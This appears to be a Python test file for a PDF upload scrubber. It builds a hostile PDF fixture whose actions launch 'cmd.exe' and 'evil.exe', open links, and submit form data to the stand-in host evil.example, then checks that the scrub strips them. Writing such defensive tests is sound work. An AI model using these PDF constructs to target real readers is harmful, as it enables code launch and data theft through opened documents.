"""Issue 17 (low): the PDF scrub strips active content: XFA, /Launch, the catalog's
OpenAction, /URI and /SubmitForm actions, additional actions; in-document jumps stay."""

from __future__ import annotations

import io

import pikepdf

from workflows.kernel.uploads import scrub

D, N = pikepdf.Dictionary, pikepdf.Name


def _hostile(pdf_bytes: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(pdf_bytes)) as doc:
        page = doc.pages[0]
        doc.Root.OpenAction = D(S=N.Launch, F=pikepdf.String("cmd.exe"))
        doc.Root.URI = D(Base=pikepdf.String("https://evil.example/"))
        doc.Root.AcroForm = D(Fields=pikepdf.Array(), XFA=doc.make_stream(b"<xdp:xdp/>"))
        rect = pikepdf.Array([0, 0, 10, 10])
        page.obj.Annots = pikepdf.Array([
            doc.make_indirect(D(Type=N.Annot, Subtype=N.Link, Rect=rect,
                                A=D(S=N.URI, URI=pikepdf.String("https://evil.example/x")))),
            doc.make_indirect(D(Type=N.Annot, Subtype=N.Link, Rect=rect,
                                A=D(S=N.SubmitForm, F=pikepdf.String("https://evil.example/f")))),
            doc.make_indirect(D(Type=N.Annot, Subtype=N.Link, Rect=rect,
                                A=D(S=N.Launch, F=pikepdf.String("evil.exe")))),
            doc.make_indirect(D(Type=N.Annot, Subtype=N.Link, Rect=rect,
                                A=D(S=N.GoTo, D=pikepdf.Array([page.obj, N.Fit])))),
        ])
        page.obj.AA = D(O=D(S=N.URI, URI=pikepdf.String("https://evil.example/open")))
        out = io.BytesIO()
        doc.save(out)
        return out.getvalue()


def test_active_content_is_stripped(pdf: bytes) -> None:
    hostile = _hostile(pdf)
    assert b"evil.example" in hostile and b"/Launch" in hostile
    clean = scrub(hostile, "application/pdf")
    assert b"evil.example" not in clean
    for word in (b"/Launch", b"/URI", b"/SubmitForm", b"/XFA", b"/OpenAction", b"/AA"):
        assert word not in clean, word
    with pikepdf.open(io.BytesIO(clean)) as doc:
        assert len(doc.pages) == 1
        annots = doc.pages[0].obj.Annots
        actions = [a.get("/A") for a in annots]
        assert [a.S for a in actions if a is not None] == [N.GoTo]  # the jump in the document
